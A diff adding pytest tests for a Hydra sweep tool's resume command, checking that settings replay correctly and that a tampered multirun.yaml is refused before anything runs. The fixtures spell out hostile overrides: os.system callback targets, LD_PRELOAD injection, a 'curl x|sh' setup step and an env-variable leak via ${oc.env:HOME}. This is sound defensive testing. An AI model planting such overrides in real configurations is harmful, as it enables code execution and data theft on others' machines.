@@ -538,6 +538,88 @@ def test_sweep_command_grid_and_resume(tmp_path, capsys):
     _one_error_line(err, "not a folder")
 
 
+def _multirun_yaml(sweep: Path, hydra=(), task=(), callbacks=None, env_set=None) -> None:
+    """A sweep folder's multirun.yaml as Hydra writes it (the parts a resume reads)."""
+    own = {"sweep_summary": {"_target_": "tripletlab.sweep.SweepSummary"}}
+    saved = {
+        "hydra": {
+            "callbacks": {**own, **(callbacks or {})},
+            "job": {"name": "run", "env_set": env_set or {}},
+            "overrides": {
+                "hydra": ["hydra.mode=MULTIRUN", f"hydra.sweep.dir={sweep}", *hydra],
+                "task": ["dataset=digits", "model=lenet,small_cnn", *task],
+            },
+        },
+        "seed": 42,
+    }
+    sweep.mkdir(parents=True, exist_ok=True)
+    (sweep / "multirun.yaml").write_text(yaml.safe_dump(saved))
+
+
+def test_resume_replays_the_launcher_and_search_settings(tmp_path):
+    sweep = tmp_path / "sweep"
+    launcher = ["hydra/launcher=slurm", "hydra.launcher.partition=gpu", "hydra.launcher.mem_gb=64"]
+    search = [
+        "hydra.sweeper.n_trials=30",
+        "hydra.sweeper.storage=sqlite:///outputs/optuna.db",
+        "hydra.sweeper.params.mining.margin=interval(0.1,0.5)",
+    ]
+    _multirun_yaml(sweep, hydra=[*launcher, *search], task=["hparams_search=optuna"])
+    assert sweep_cli.sweep_arguments([], resume=sweep) == [
+        *launcher,
+        *search,
+        "dataset=digits",
+        "model=lenet,small_cnn",
+        "hparams_search=optuna",
+        f"hydra.sweep.dir={sweep.resolve()}",
+    ]
+
+
+@pytest.mark.parametrize(
+    ("entry", "kind"),
+    [
+        ({"hydra": ["+hydra.callbacks.x._target_=os.system"]}, "+hydra.callbacks.x._target_"),
+        ({"hydra": ["hydra.job.env_set.LD_PRELOAD=/tmp/x.so"]}, "env_set.LD_PRELOAD"),
+        ({"hydra": ["hydra.searchpath=[file:///tmp/conf]"]}, "hydra.searchpath"),
+        ({"hydra": ["hydra.launcher.setup=[curl x|sh]"]}, "hydra.launcher.setup"),
+        ({"hydra": ["hydra.launcher._target_=os.system"]}, "hydra.launcher._target_"),
+        ({"hydra": ["hydra/job_logging=custom"]}, "hydra/job_logging"),
+        ({"hydra": ["hydra.sweeper.params.hydra.job.env_set.A=choice(1)"]}, "search space"),
+        ({"task": ["hydra.job.env_set.A=1"]}, "among the job overrides"),
+        ({"task": ["model@hydra.callbacks.x=lenet"]}, "model@hydra.callbacks.x"),
+        ({"task": ["+model._target_=os.system"]}, "+model._target_"),
+        ({"task": ["logger.tracking_uri=http://h/${oc.env:HOME}"]}, "${oc.env:...}"),
+        ({"callbacks": {"x": {"_target_": "os.system"}}}, "hydra.callbacks.x (os.system)"),
+        ({"env_set": {"LD_PRELOAD": "/tmp/x.so"}}, "hydra.job.env_set.LD_PRELOAD"),
+    ],
+)
+def test_resume_refuses_a_tampered_multirun_yaml(tmp_path, capsys, entry, kind):
+    """A sweep folder may come from someone else: nothing beyond its own overrides runs."""
+    sweep = tmp_path / "sweep"
+    _multirun_yaml(sweep, **entry)
+    code, out, err = _cli(sweep_cli, ["--dry-run", "--resume", sweep], capsys)
+    assert code == 1 and out == ""  # not even the command
+    _one_error_line(err, kind)
+    assert "someone else" in err and "Nothing was run" in err
+
+
+def test_sweep_sh_resume_of_a_tampered_folder_runs_nothing(tmp_path):
+    """The callback would create a file at the sweep's start: it is refused before Hydra."""
+    sweep = tmp_path / "sweep"
+    marker = tmp_path / "pwned"
+    evil = [
+        "+hydra.callbacks.x._target_=builtins.open",
+        f"+hydra.callbacks.x.file={marker}",
+        "+hydra.callbacks.x.mode=w",
+    ]
+    _multirun_yaml(sweep, hydra=evil, task=["trainer.epochs=1", "dataset.max_train=64"])
+    before = sorted(sweep.iterdir())
+    proc = _sweep_sh("--resume", str(sweep))
+    assert proc.returncode == 1, proc.stdout + proc.stderr
+    _one_error_line(proc.stderr, "+hydra.callbacks.x._target_=builtins.open")
+    assert not marker.exists() and sorted(sweep.iterdir()) == before
+
+
 def test_sweep_override_typo_is_one_error_line(tmp_path, capsys, monkeypatch):
     monkeypatch.chdir(tmp_path)
     code, _, err = _cli(sweep_cli, ["dataset=digits", "trainer.epoch=1"], capsys)
